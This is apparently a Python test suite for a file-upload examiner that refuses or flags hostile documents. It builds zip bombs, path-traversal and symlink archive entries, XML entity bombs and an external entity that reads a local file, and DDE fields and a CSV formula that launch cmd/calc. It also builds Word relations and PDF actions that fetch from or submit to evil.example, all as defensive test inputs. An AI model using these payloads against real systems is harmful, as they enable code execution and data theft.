"""Files made to do harm, and files that are not what they say: a clause for each, no fault, nothing unpacked past the limit."""

from __future__ import annotations

import struct
import warnings
import zipfile
import zlib
from contextlib import suppress
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String

from gongkai.base.files.examining.dispatch import READERS
from gongkai.base.files.examining.findings import BROKEN, DEEPEST, Unacceptable
from tests.real_files import MAKERS, docx_of, jpeg, made, ofd, pdf, png, saved, xlsx_of, zipped

from .old_files import encrypted_package
from .test_text_of_pdfs import annotated, changed
from .workshop import examined, inserted, objections, patched, refusal, related

MIB = 1024 * 1024
LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'


def test_a_bomb_is_refused_by_its_ratio_before_it_is_unpacked():
    content = zipped({"零.txt": bytes(60 * MIB)})
    assert len(content) < MIB
    assert "压缩比超过 200 倍" in refusal(".zip", content)


def test_a_large_archive_is_refused_by_its_size():
    content = zipped({f"{n}.txt": bytes(range(256)) * 4096 for n in range(4)})
    assert "解压后超过 2 MB" in refusal(".zip", content, unpacked=2 * MIB)


def test_bombs_inside_each_other_are_counted_together():
    inner = zipped({"零.txt": b"0123456789" * 60_000})
    outer = zipped({f"{n}.zip": inner for n in range(20)})
    assert "解压后超过 5 MB" in refusal(".zip", outer, unpacked=5 * MIB)


def test_archives_in_archives_are_followed_so_far_and_no_further():
    content = zipped({"a.txt": "正文"})
    for _level in range(DEEPEST - 1):
        content = zipped({"内.zip": content})
    assert examined(".zip", content)[0].parts[0][0].count("内.zip") == DEEPEST - 1
    assert f"超过 {DEEPEST} 层" in refusal(".zip", zipped({"内.zip": content}))


def test_entries_that_lie_over_each_other_are_refused():
    content = bytearray(zipped({"a.txt": "甲" * 50, "b.txt": "甲" * 50}))
    second = content.rindex(b"PK\x01\x02")
    struct.pack_into("<I", content, second + 42, 0)  # both entries point to the first body
    assert "结构异常" in refusal(".zip", bytes(content))


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/cron.d/x.txt",
        "/etc/passwd.txt",
        "a/../../x.txt",
        "C:\\x.txt",
        "..\\x.txt",
        "a\u202etxt.txt",
        "a\nb.txt",
    ],
)
def test_names_that_lead_out_of_an_archive_are_refused(name):
    assert "指向包外" in refusal(".zip", zipped({name: "x"}))


def test_two_entries_of_one_name_are_refused():
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("a.txt", "甲")
        archive.writestr("a.txt", "乙")
    assert "同名" in refusal(".zip", out.getvalue())


def test_a_link_in_an_archive_is_refused():
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo("a.txt")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    assert "符号链接" in refusal(".zip", out.getvalue())


def test_more_entries_than_anybody_needs_are_refused():
    assert "10001 个文件" in refusal(".zip", zipped({f"{n}.txt": "" for n in range(10_001)}))


def test_an_encrypted_archive_is_refused():
    content = bytearray(zipped({"a.txt": "甲"}))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    assert "已加密" in refusal(".zip", bytes(content))


@pytest.mark.parametrize("name", ["病毒.exe", "脚本.vbs", "页面.html", "没有扩展名", "宏.docm"])
def test_what_is_not_accepted_alone_is_not_accepted_inside_an_archive(name):
    assert "不接受" in refusal(".zip", zipped({"说明.txt": "x", name: b"MZ"}))


@pytest.mark.parametrize("kind", sorted(set(MAKERS) - {"csv", "txt"}))
def test_a_file_cut_off_anywhere_is_refused_as_broken_or_read_but_never_a_fault(kind):
    content = made(kind)
    for length in range(1, len(content), max(1, len(content) // 40)):
        with suppress(Unacceptable):
            examined("." + kind, content[:length])
            assert kind == "pdf", length  # qpdf finds the objects of a PDF without its table


@pytest.mark.parametrize("kind", ["docx", "xlsx", "ofd", "zip", "png"])
def test_a_changed_byte_is_noticed_by_the_sums_of_the_format(kind):
    content = bytearray(made(kind))
    at = content.index(b"IDAT") + 6 if kind == "png" else 30 + int.from_bytes(content[26:28], "little") + 5
    content[at] ^= 0xFF
    assert BROKEN in refusal("." + kind, bytes(content))


@pytest.mark.parametrize("kind", sorted(set(MAKERS) - {"csv", "txt"}))
@pytest.mark.parametrize("suffix", sorted(set(READERS) - {".csv", ".txt"}))
def test_a_file_under_another_types_name_is_refused_and_told_what_it_is(kind, suffix):
    if suffix == "." + kind or {suffix, "." + kind} == {".jpg", ".jpeg"}:
        return
    assert "不符" in refusal(suffix, made(kind))


@pytest.mark.parametrize(
    ("content", "actual"),
    [
        (b"MZ\x90\x00" + bytes(99), "EXE"),
        (b"<!doctype html><script>", "HTML"),
        (b"{\\rtf1 ", "RTF"),
        (b"Rar!\x1a\x07", "RAR"),
    ],
)
@pytest.mark.parametrize("suffix", [".docx", ".pdf", ".doc", ".ofd", ".jpg"])
def test_other_files_under_an_accepted_name_are_named(content, actual, suffix):
    assert f"实际是 {actual} 文件" in refusal(suffix, content)


def test_a_file_that_is_two_things_at_once_is_refused():
    assert "既是 PDF 又是压缩包" in refusal(".pdf", pdf("x") + zipped({"a.exe": "MZ"}))
    types = inserted(
        b"</Types>",
        '<Override PartName="/x.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
    )
    assert "既是文字文档又是表格" in refusal(".docx", patched(docx_of("x"), {"[Content_Types].xml": types}))


def test_bytes_after_the_end_of_a_file_are_not_kept():
    for suffix, content in ((".png", made("png")), (".jpg", made("jpg")), (".pdf", made("pdf"))):
        found, kept = examined(suffix, content + b"<script>alert(1)</script>")
        assert kept == content
        assert suffix == ".pdf" or found.removed == ["图片之后的数据"]


def test_office_files_with_a_password_are_refused_as_such():
    for suffix in (".docx", ".xlsx", ".doc", ".xls", ".wps"):
        assert "已加密" in refusal(suffix, encrypted_package())


@pytest.mark.parametrize("passwords", [{"user": "123", "owner": "123"}, {"user": "", "owner": "123"}])
def test_a_pdf_with_a_password_is_refused_as_such(passwords):
    out = BytesIO()
    with Pdf.open(BytesIO(pdf("x"))) as document:
        document.save(out, encryption=pikepdf.Encryption(**passwords, R=6))
    assert "已加密" in refusal(".pdf", out.getvalue())


@pytest.mark.parametrize("suffix", [".docx", ".xlsx", ".ofd"])
def test_entities_are_refused_wherever_they_stand(suffix):
    content = {".docx": docx_of("x"), ".xlsx": xlsx_of(("x",)), ".ofd": ofd("x")}[suffix]
    names = [
        info.filename
        for info in zipfile.ZipFile(BytesIO(content)).infolist()
        if info.filename.endswith((".xml", ".rels"))
    ]
    for name in names:
        for laughs in (LAUGHS.encode(), LAUGHS.replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")):
            said = refusal(suffix, patched(content, {name: laughs}))
            assert "实体声明" in said or "不符" in said, name


def test_an_entity_that_reads_a_file_of_ours_is_refused(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("机密", encoding="utf-8")
    evil = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "{secret.as_uri()}">]><x>&a;</x>'
    assert "实体声明" in refusal(".docx", patched(docx_of("x"), {"word/document.xml": evil}))


def test_endless_depth_is_refused():
    deep = "<w:sdt>" * 5000 + "</w:sdt>" * 5000
    assert "嵌套过深" in refusal(".docx", patched(docx_of("x"), {"word/document.xml": inserted(b"<w:sectPr", deep)}))


def macro_types(content: bytes) -> bytes:
    return content.replace(b"wordprocessingml.document.main+xml", b"x").replace(
        b"application/vnd.openxmlformats-officedocument.x", b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )


def test_macros_are_objected_to_however_they_are_hidden():
    rels = "word/_rels/document.xml.rels"
    assert "含有宏" in objections(".docx", patched(docx_of("x"), {"[Content_Types].xml": macro_types}))
    assert "含有宏" in objections(
        ".docx", patched(docx_of("x"), {rels: related("vbaProject", "vbaProject.bin"), "word/vbaProject.bin": b"x"})
    )
    disguised = {rels: related("image", "media/a.bin"), "word/media/a.bin": encrypted_package()}
    assert "OLE 对象" in objections(".docx", patched(docx_of("x"), disguised))
    assert "可执行程序" in objections(".docx", patched(docx_of("x"), {"word/media/a.emf": b"MZ\x90\x00"}))


@pytest.mark.parametrize(
    ("kind", "target", "clause"),
    [
        ("oleObject", "http://evil.example/x.doc", "OLE 对象"),
        ("attachedTemplate", "http://evil.example/x.dotm", "引用了外部文件"),
        ("attachedTemplate", "\\\\10.0.0.1\\x.dotm", "引用了外部文件"),
        ("attachedTemplate", "file://10.0.0.1/x.dotm", "引用了外部文件"),
        ("image", "http://evil.example/beacon.png", "引用了外部文件"),
        ("frame", "http://evil.example/", "引用了外部文件"),
        ("subDocument", "file:///C:/x.docx", "引用了外部文件"),
        ("hyperlink", "javascript:alert(1)", "带有脚本"),
        ("hyperlink", "file:///C:/Users/%E5%BC%A0/x.docx", "指向本机或内网"),
        ("hyperlink", "\\\\server\\share", "指向本机或内网"),
        ("aFChunk", "x.html", "其他格式文档"),
        ("control", "activeX/a.xml", "ActiveX"),
    ],
)
def test_what_a_document_fetches_or_starts_is_objected_to(kind, target, clause):
    content = patched(
        docx_of("x"), {"word/_rels/document.xml.rels": related(kind, target, external=":" in target or "\\" in target)}
    )
    assert clause in objections(".docx", content)


def test_an_ordinary_link_is_no_objection():
    content = patched(
        docx_of("x"),
        {"word/_rels/document.xml.rels": related("hyperlink", "https://www.example.gov.cn/", external=True)},
    )
    assert objections(".docx", content) == ""


@pytest.mark.parametrize(
    "code", ['DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', 'INCLUDEPICTURE "http://evil.example/a.png"']
)
def test_fields_that_fetch_or_start_something_are_objected_to(code):
    field = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> {code} </w:instrText></w:r></w:p>'
    assert "从外部取数的域" in objections(
        ".docx", patched(docx_of(), {"word/document.xml": inserted(b"<w:sectPr", field)})
    )


@pytest.mark.parametrize(
    ("kind", "clause"),
    [
        ("externalLink", "其他工作簿"),
        ("connections", "外部数据连接"),
        ("pivotCacheDefinition", "透视表缓存"),
        ("powerPivotData", "数据模型"),
        ("revisionHeaders", "修订记录"),
        ("xlMacrosheet", "含有宏"),
    ],
)
def test_what_a_workbook_keeps_beside_its_sheets_is_objected_to(kind, clause):
    content = patched(xlsx_of(("x",)), {"xl/_rels/workbook.xml.rels": related(kind, "x/y.xml"), "xl/x/y.xml": "<x/>"})
    assert clause in objections(".xlsx", content)


def test_a_cell_that_starts_a_program_is_objected_to():
    assert "第2行第1列的内容会让表格软件运行程序" in objections(".csv", "姓名\n=cmd|'/C calc'!A0\n".encode())


@pytest.mark.parametrize(
    ("action", "clause"),
    [
        (Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")), "JavaScript"),
        (Dictionary(S=Name.Launch, F=String("calc.exe")), "启动程序"),
        (Dictionary(S=Name.SubmitForm, F=String("http://evil.example")), "提交表单"),
        (Dictionary(S=Name.GoToE), "内嵌文件"),
        (Dictionary(S=Name.URI, URI=String("javascript:alert(1)")), "带有脚本"),
    ],
)
def test_a_pdf_that_acts_is_objected_to_wherever_the_action_hangs(action, clause):
    def when_opened(document):
        document.Root.OpenAction = Dictionary(S=Name.GoTo, Next=Array([action]))

    if clause != "带有脚本":
        assert clause in objections(".pdf", changed(pdf("x"), when_opened))
    assert clause in objections(".pdf", annotated("Link", A=action))


def test_files_and_media_inside_a_pdf_are_objected_to():
    def change(document):
        document.attachments["a.exe"] = b"MZ"

    assert "内嵌文件" in objections(".pdf", changed(pdf("x"), change))
    assert "多媒体" in objections(".pdf", annotated("RichMedia"))


def test_pictures_that_need_too_much_memory_to_be_shown_are_refused():
    assert "60000×60000 像素" in refusal(".png", png(width=60_000, height=60_000))
    assert "65000×65000 像素" in refusal(".jpg", jpeg(width=65_000, height=65_000))

    def change(document):
        picture = document.pages[0].obj.Resources.XObject.Im1
        picture.Width = picture.Height = 90_000

    assert "90000×90000 像素" in refusal(".pdf", changed(pdf(""), change))


def test_a_stream_of_a_pdf_that_unpacks_without_end_does_not_fill_the_memory():
    def change(document):
        packed = zlib.compress(bytes(300 * MIB), 9)
        document.pages[0].obj.Contents = pikepdf.Stream(document, packed, Filter=Name.FlateDecode)

    found, kept = examined(".pdf", changed(pdf("一", "二"), change))
    assert ("第2页", "二") in found.parts
    assert len(kept) < MIB


def test_a_pdf_without_pages_is_refused():
    assert refusal(".pdf", b"%PDF-1.7 a page") == BROKEN
    assert refusal(".pdf", saved(Pdf.new())) == BROKEN
